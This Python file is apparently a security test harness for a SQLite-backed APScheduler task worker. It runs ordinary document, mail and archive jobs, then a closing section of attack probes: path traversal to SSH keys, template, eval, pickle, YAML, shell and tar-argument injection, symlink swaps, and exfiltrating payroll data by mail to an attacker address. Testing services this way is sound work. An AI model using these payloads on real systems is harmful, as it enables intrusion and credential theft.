# SPDX-License-Identifier: Apache-2.0
"""An APScheduler worker; its queue is a table of a SQLite database."""
import contextlib
import datetime
import io
import json
import os
import pickle
import sqlite3
import tarfile
import time
import uuid
import zipfile

from aiosmtpd.controller import Controller
from apscheduler.triggers.date import DateTrigger
from apscheduler.triggers.interval import IntervalTrigger

from attackers import Bomb, in_yaml
import stage

ANSWER_SECONDS = 6
HEAD = {"__init__.py": "def head(user, date):\n"
                       '    return f"The Scriptorium, {user}, {date}"\n'}
HEAD_NEW = {
    "__init__.py": "from letterhead.lines import head\n",
    "lines.py": "import importlib.resources\nimport json\n\n\n"
                "def head(user, date):\n"
                "    text = importlib.resources.read_text(\n"
                '        "letterhead", "house.json")\n'
                "    house = json.loads(text)\n"
                '    return f"{house[\'name\']}, {user}, {date}"\n',
    "house.json": '{"name": "The Scriptorium, founded 1911"}\n'}
TABLES = {"__init__.py": "def plain(rows):\n"
                         '    return "".join("  ".join(row) + "\\n" '
                         "for row in rows)\n\n\n"
                         "def dokuwiki(rows):\n"
                         '    return "".join("| " + " | ".join(row) + " |\\n" '
                         "for row in rows)\n"}
ENTRIES = ("[scriptorium.exporters]\ntxt = plaintable:plain\n"
           "wiki = plaintable:dokuwiki\n")
SETTINGS = """[worker]
threads = 3
processes = 1
poll_seconds = 0.15

[net]
agent = "scriptorium/2.3"
seconds = 6

[mail]
host = "127.0.0.1"
port = {port}
domain = "scriptorium.example"
sender = "desk@scriptorium.example"
"""
# user, project, part of it, words for names, date of the day
DAYS = {
    1: (("ana", "harbour-tales", "part1",
         "tide gulls mooring lantern ballast wharf", "2026-03-02"),
        ("b.kovac", "Alpine Flora", "ridge/north",
         "gentian moss edelweiss scree larch pollen", "2026-03-02"),
        ("Jo Lindqvist", "rail_1890", "maps",
         "signal tender gauge viaduct sleeper points", "2026-03-03")),
    2: (("mirela", "bakers-year", "winter",
         "rye sourdough kiln bran crumb yeast", "2026-04-14"),
        ("c.d.ferro", "Roman Roads", "via/appia/stones",
         "milestone paving culvert legion cart inn", "2026-04-15"),
        ("Per Olsen", "fjord_songs", "verse2",
         "oar chorus refrain ferry echo alto", "2026-04-15")),
    3: (("tunde", "market-days", "spring",
         "stall scales basket awning barter coin", "2026-05-27"),
        ("s.haas", "Glass and Sand", "ovens/blue",
         "furnace bubble cobalt pipe shard bead", "2026-05-28"),
        ("Ida Moe", "moth_book", "plates",
         "hawkmoth pupa antenna lamp wing dusk", "2026-05-28"))}
BENIGN = (("Zoë van Dam", "Polder & Dyke", "Teil 2/high water/May",
           "sluice reed.bed windmill eel heron ditch", "2027-01-09"),
          ("r.o.connor", "peat.v2", "bog",
           "turf spade cutting heather stack ember", "2027-01-11"),
          ("lev", "Night Trains 3.1", "sidings/old",
           "buffer samovar berth whistle frost steppe", "2027-01-11"))


class Inbox:
    """Everybody's mail server."""

    def __init__(self):
        self.letters = []

    async def handle_RCPT(self, _server, _session, envelope, address, _):
        if address.startswith("nobody"):
            return "550 no such mailbox"
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, _server, _session, envelope):
        self.letters.append((envelope.rcpt_tos, envelope.content))
        return "250 taken"


class Scriptorium(stage.Service):
    """A task queue worker with threads and a process (APScheduler)."""
    packages = ["python3-apscheduler", "python3-sqlalchemy", "python3-docutils",
                "python3-markdown", "python3-jinja2", "python3-openpyxl",
                "python3-pil", "python3-reportlab", "python3-requests",
                "python3-lxml", "python3-yaml", "python3-aiosmtpd"]
    post = None
    started = 0

    def arrange(self):
        self.install("letterhead", "1.2.0", HEAD)
        self.install("plaintable", "0.4.1", TABLES, ENTRIES)
        stage.write(self.srv / "scriptorium.toml",
                    SETTINGS.format(port=self.port("mail")))
        self.bring(*DAYS[1][0])

    def arrange_benign(self):
        self.install("letterhead", "1.3.0", HEAD_NEW)

    def command(self):
        self.started = self.log.stat().st_size
        return [self.python, "worker.py"]

    def is_ready(self):
        return (b" scriptorium ready" in self.log.read_bytes()[self.started:]
                and self.has_queue())

    def has_queue(self):
        try:
            with self.database() as database:
                database.execute("select count(*) from apscheduler_jobs")
            return True
        except sqlite3.OperationalError:
            return False

    def start(self):
        if not self.post:
            self.inbox = Inbox()
            self.post = Controller(self.inbox, hostname="127.0.0.1",
                                   port=self.port("mail"))
            self.post.start()
        super().start()

    def stop(self):
        super().stop()
        if self.post:
            self.post.stop()
            self.post = None

    # ------------------------------------------------------------- the queue
    @contextlib.contextmanager
    def database(self):
        """The queue, as the front end sees it."""
        path = self.srv / "var/queue.sqlite"
        with contextlib.closing(sqlite3.connect(
                f"file:{path}?mode=rw", timeout=20, uri=True)) as database:
            with database:
                yield database

    def put(self, number, state):
        with self.database() as database:
            database.execute("insert into apscheduler_jobs values (?, ?, ?)",
                             (number, time.time(), state))

    def enqueue(self, function, arguments, executor="default", trigger=None):
        """A job as a scheduler of the front end's writes it."""
        number = uuid.uuid4().hex
        now = datetime.datetime.now(datetime.timezone.utc)
        self.put(number, pickle.dumps({
            "version": 1, "id": number, "func": function,
            "trigger": trigger or DateTrigger(now, datetime.timezone.utc),
            "executor": executor, "args": tuple(arguments), "kwargs": {},
            "name": function.rpartition(":")[2], "misfire_grace_time": 60,
            "coalesce": True, "max_instances": 1, "next_run_time": now}))
        return number

    def outcomes(self, number):
        with self.database() as database:
            return database.execute(
                "select state, value from outcomes where job = ?",
                (number,)).fetchall()

    def outcome(self, number, count=1):
        if not stage.wait_for(lambda: len(self.outcomes(number)) >= count,
                              ANSWER_SECONDS):
            return "no answer", ""
        state, value = self.outcomes(number)[-1]
        return state, json.loads(value)

    def job(self, name, *arguments):
        """name: module.function."""
        return self.outcome(self.enqueue(
            "scriptorium.tasks." + name.replace(".", ":"), arguments,
            "heavy" if name == "documents.picture" else "default"))

    def expect_job(self, found, name, *arguments, state="done"):
        got, value = self.job(name, *arguments)
        self.expect(f"{name} {arguments}", got == state
                    and found in json.dumps(value, ensure_ascii=False),
                    (got, value))

    # ------------------------------------------------------------- the users
    def desk(self, user):
        return self.srv / "var/desks" / user

    def out(self, user):
        return self.srv / "var/out" / user

    def bring(self, user, project, part, words, date):
        """What a user brings by way of the front end."""
        one, two, three, four, five, six = words.split()
        desk = self.desk(user) / project
        stage.write(desk / f"{one}.rst", (
            f"{one}\n{'=' * len(one)}\n\nby *{user}*\n\n{two}\n"
            f"{'-' * len(two)}\n\n- {three}\n- {four}\n\n"
            f"See `{five} <https://{five}.example/>`_.\n\n"
            f"====  ====\na     b\n====  ====\n1     {date[-2:]}\n"
            "====  ====\n"))
        stage.write(desk / part / f"{two}.md", (
            f"# {two}\n\nSome **{three}**.\n\n| a | b |\n|---|---|\n"
            f"| {four} | 2 |\n"))
        stage.write(desk / f"{three}.csv", "word,kind,count\n" + "".join(
            f"{word},{len(word) % 3},{number}\n"
            for number, word in enumerate((one, two, three, four, five))))
        stage.write(desk / part / f"{four}.png", stage.png(20 + len(four)))
        text = "".join(f"line {number} of {five}\n" for number in range(60))
        stage.write(desk / f"{five}.txt", text)
        stage.write(desk / part / f"{five} rev.txt",
                    text.replace("line 7 ", f"{six} "))
        stage.write(desk / f"{one}.yaml",
                    f"title: {one}\npages: {len(words)}\ndue: {date}\n")
        stage.write(desk / f"news-{six}.txt",
                    f"Dear {{{{ name }}}},\n{one} is about {{{{ topic }}}}.\n")
        for kind, archive in ((f"from-{six}.zip", self.zipped),
                              (f"{six}.tar.gz", self.tarred)):
            stage.write(desk / kind, archive({
                f"{one}.txt": two, f"{three}/{four}.txt": five}))

    @staticmethod
    def zipped(files):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, text in files.items():
                archive.writestr(name, text)
        return buffer.getvalue()

    @staticmethod
    def tarred(files):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
            for name, text in files.items():
                member = tarfile.TarInfo(name)
                member.size = len(text.encode())
                archive.addfile(member, io.BytesIO(text.encode()))
        return buffer.getvalue()

    def elsewhere(self):
        library, author = self.site("library"), self.site("author")
        library.page("*", "a page of a book\n" * 9)
        author.page("*", "a text\n" * 5)
        return library, author

    def work(self, kinds, user, project, part, words, date):
        """All that the program offers, for one user. kinds: endings of what
        is fetched."""
        one, two, three, four, five, six = words.split()
        author = f"{six}@{two.replace('.', '-')}.example"
        self.bring(user, project, part, words, date)
        for kind in ("html", "tex", "xml"):
            self.expect_job(f"{one}.{kind}", "documents.document", user,
                            f"{project}/{one}.rst", kind)
        self.expect_job(f"{two}.html", "documents.document", user,
                        f"{project}/{part}/{two}.md", "html")
        for kind in ("xlsx", "txt", "wiki"):
            self.expect_job(f"{three}.{kind}", "documents.export", user,
                            f"{project}/{three}.csv", kind)
        for kind in ("png", "jpg", "gif"):
            self.expect_job(f"{four}-{len(words)}.{kind}",
                            "documents.picture", user,
                            f"{project}/{part}/{four}.png", len(words), kind)
        self.expect_job(f"{six}.pdf", "documents.letter", user, six,
                        author, date, [f"About {one} & {two}".replace(
                            "&", "and"), f"and <i>{three}</i>."])
        self.fetch(kinds, user, project, part, words)
        self.write(user, project, words, author, date)
        self.archive(user, project, part, words)
        self.use_tools(user, project, part, words)
        self.expect_job(str(len(words) * 2), "office.quote", user,
                        f"{date[:4]}-{one}", len(words) * 100, "words * 0.02")
        self.expect_job("3.0", "office.quote", user, f"{date}-{two}", 250,
                        "math.ceil(words / 100) * 1.0")
        self.expect_job(f"due {date}", "office.ticket", user,
                        f"{project}/{one}.yaml")
        self.expect_job("no pdf is made", "documents.document", user,
                        f"{project}/{one}.rst", "pdf", state="failed")
        self.expect_job("not on the desk", "tools.preview", user,
                        f"{project}/{six} {two}.txt", 3, state="failed")
        self.expect_job(f"{one}.xml", "office.sweep", user, "*.xml")

    def fetch(self, kinds, user, project, part, words):
        one, two, three, _, _, six = words.split()
        library, author = self.elsewhere()
        for kind in kinds:
            self.expect_job("153", "net.fetch", user,
                            f"{library.url}/{one}/{two}.{kind}",
                            f"{project}/{part}/{two} {six}.{kind}")
        self.expect_job("35", "net.fetch", user,
                        f"{author.url}/~{six}/{one}?v={len(words)}",
                        f"{project}/in/{three}.{kinds[0]}")
        library.page(f"/{three}", f"<title>On {three}</title>"
                     f"<a href='{two}.html'>x</a><img src='/{six}.png'>")
        self.expect_job(f"/{six}.png", "net.links", user,
                        f"{library.url}/{three}")
        library.page(f"/old/{six}", "gone", 404)
        self.expect_job("404", "net.fetch", user,
                        f"{library.url}/old/{six}", f"{project}/{six}.txt",
                        state="failed")

    def write(self, user, project, words, author, date):
        one, two, _, four, _, six = words.split()
        values = {"title": one, "author": six, "due": date}
        self.expect_job(f"{one} is ready", "post.mail", user, author, "ready",
                        values, [f"{one}.html", f"letters/{date[:4]}/"
                                 f"{six}.pdf", f"{four}-{len(words)}.png"])
        self.expect_job(f"due on {date}", "post.mail", user,
                        f"{two}@press.example", "reminder", values)
        now = datetime.datetime.now(datetime.timezone.utc)
        number = self.enqueue(
            "scriptorium.tasks.post:mail", (user, author, "reminder", values),
            trigger=IntervalTrigger(
                seconds=1, start_date=now, timezone=datetime.timezone.utc,
                end_date=now + datetime.timedelta(seconds=1.5)))
        self.expect("reminded twice", self.outcome(number, 2)[0] == "done")
        self.expect_job(f"about {two}", "post.circular", user,
                        f"{project}/news-{six}.txt", {
                            author: {"name": six, "topic": two},
                            f"{four}@press.example": {
                                "name": four, "topic": one}})
        self.expect_job("SMTPRecipientsRefused", "post.mail", user,
                        f"nobody@{two}.example", "ready", values,
                        state="failed")

    def archive(self, user, project, part, words):
        one, two, three, four, five, six = words.split()
        for kind in ("zip", "tgz"):
            self.expect_job(f"{project}.{kind}", "archives.bundle", user,
                            project, kind)
        self.expect_job(f"{six}.tar.xz", "archives.pack", user, six,
                        [f"{project}/{one}.rst", f"{project}/{part}/{two}.md"])
        for name in (f"from-{six}.zip", f"{six}.tar.gz"):
            self.expect_job(f"{three}/{four}.txt", "archives.unpack", user,
                            f"{project}/{name}", f"{project}/box {six}")
        self.expect_job("ReadError", "archives.unpack", user,
                        f"{project}/{five}.txt", f"{project}/box {five}",
                        state="failed")

    def use_tools(self, user, project, part, words):
        one, _, three, _, five, _ = words.split()
        for length, columns in ((30, 1), (20 + len(one), 2)):
            self.expect_job(f"{five}.txt", "tools.paginate", user,
                            f"{project}/{five}.txt", length, columns)
        self.expect_job("kind", "tools.tally", user,
                        f"{project}/{three}.csv", 2)
        self.expect_job("", "tools.checksums", user, f"{project}/{part}")
        self.expect_job(f"{five} rev.diff", "tools.compare", user,
                        f"{project}/{five}.txt",
                        f"{project}/{part}/{five} rev.txt")
        self.expect_job("line 2", "tools.preview", user,
                        f"{project}/{five}.txt", 3)

    def train(self, day):
        kinds = {1: ("txt", "pdf"), 2: ("html", "csv"), 3: ("odt", "txt")}[day]
        for client in DAYS[day]:
            self.work(kinds, *client)

    def benign(self):
        for client in BENIGN:
            self.work(("epub", "tar.gz"), *client)
        user, _, _, words, date = BENIGN[1]
        self.expect_job("12.5", "office.quote", user,
                        f"{date} {words.split()[0]} (2)", 500,
                        "math.floor(words / 10) * 0.25")

    def health(self):
        user, project, _, words, _ = DAYS[1][0]
        one, _, _, _, five, six = words.split()
        self.expect_job("line 2", "tools.preview", user,
                        f"{project}/{five}.txt", 3)
        self.expect_job(f"{one}.html", "documents.document", user,
                        f"{project}/{one}.rst", "html")
        self.expect_job("reminded", "post.mail", user, f"{six}@gulls.example",
                        "reminder", {"title": one, "author": "reminded",
                                     "due": "2026-03-02"})

    # --------------------------------------------------------------- attacks
    def shows(self, name):
        return self.job("tools.preview", "ana", name, 99)[1]

    def loads(self, text):
        stage.write(self.desk("ana") / "evil.yaml", text)
        return self.job("office.ticket", "ana", "evil.yaml")

    def counts(self, formula):
        return self.job("office.quote", "ana", "7", 10, formula)

    def renders(self, expression):
        stage.write(self.desk("ana") / "evil.txt", (
            "{{ cycler.__init__.__globals__['__builtins__']['eval']"
            f"({expression!r}) }}}}"))
        return json.dumps(self.job("post.circular", "ana", "evil.txt",
                                   {"eve@evil.example": {"name": "x"}})[1])

    def explodes(self, *call):
        self.put(uuid.uuid4().hex, pickle.dumps(Bomb(*call)))

    @stage.attack("traversal")
    def text_is_a_private_key(self):
        return self.is_told(self.shows("../../../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def text_is_the_source(self):
        return "HOLE" in self.shows("../../../scriptorium/tasks/net.py")

    @stage.attack("secret disclosure")
    def manuscript_includes_the_payroll(self):
        stage.write(self.desk("ana") / "evil.rst",
                    f".. include:: {self.place}/payroll/2026.csv\n")
        self.job("documents.document", "ana", "evil.rst", "html")
        made = self.out("ana") / "evil.html"
        return made.exists() and self.is_told(made.read_bytes())

    @stage.attack("exfiltration")
    def key_goes_by_mail(self):
        self.job("post.mail", "ana", "eve@evil.example", "ready",
                 {"title": "x", "author": "y"},
                 [f"{self.place}/payroll/2026.csv"])
        return any(b"2026.csv" in text for people, text in self.inbox.letters
                   if "eve@evil.example" in people)

    @stage.attack("SSRF")
    def page_is_an_internal_service(self):
        def fetch(url):
            self.job("net.fetch", "ana", url, "got.txt")
            return self.shows("got.txt")
        return self.fetches_inside(fetch)

    @stage.attack("command injection")
    def column_runs_a_command(self):
        return self.runs_line(lambda line: self.job(
            "tools.tally", "ana", "harbour-tales/mooring.csv",
            f"1 /dev/null; {line}; cut -c1-9"))

    @stage.attack("argument injection")
    def name_is_an_option(self):
        return self.runs_line(lambda line: self.job(
            "archives.pack", "ana", "x", [
                "--checkpoint=1", f"--checkpoint-action=exec={line}",
                "harbour-tales"]))

    @stage.attack("template injection")
    def circular_reads_a_password(self):
        return self.template_reads(self.renders)

    @stage.attack("eval injection")
    def formula_runs_a_command(self):
        return self.runs_line(lambda line: self.counts(
            f"__import__('os').system('{line}')"))

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(self.counts)

    @stage.attack("unsafe yaml")
    def ticket_sends_credentials(self):
        return self.steals(lambda code: self.loads(in_yaml(code)))

    @stage.attack("reverse shell")
    def ticket_calls_home(self):
        return self.calls_home(lambda code: self.loads(in_yaml(code)))

    @stage.attack("unsafe pickle")
    def job_runs_a_command(self):
        return self.runs_line(lambda line: self.explodes(os.system, line),
                              waits=True)

    @stage.attack("fork+exec")
    def job_forks_and_execs(self):
        return self.forks(lambda code: self.explodes(exec, code))

    @stage.attack("symlink swap")
    def text_became_a_link(self):
        path = self.desk("ana") / "harbour-tales/ballast.txt"
        before = path.read_bytes()
        path.unlink()
        path.symlink_to(self.home / ".netrc")
        found = self.is_told(self.shows("harbour-tales/ballast.txt"))
        path.unlink()
        path.write_bytes(before)
        return found

    @stage.attack("write to code", fresh=True)
    def archive_brings_a_module(self):
        stage.write(self.desk("ana") / "evil.tar.gz", self.tarred(
            {"../" * 4 + "sitecustomize.py": "planted = True\n"}))
        self.job("archives.unpack", "ana", "evil.tar.gz", "box")
        return (self.srv / "sitecustomize.py").exists()

    @stage.attack("write to start-up file", fresh=True)
    def page_becomes_the_profile(self):
        self.site("library").page("*", "planted")
        self.job("net.fetch", "ana", self.site("library").url + "/gulls",
                 "../../../../home/.bashrc")
        return "planted" in (self.home / ".bashrc").read_text()

    @stage.attack("malicious dependency", fresh=True)
    def letterhead_steals_credentials(self):
        return self.dependency_steals("letterhead", "1.2.1", HEAD,
                                      self.restart)
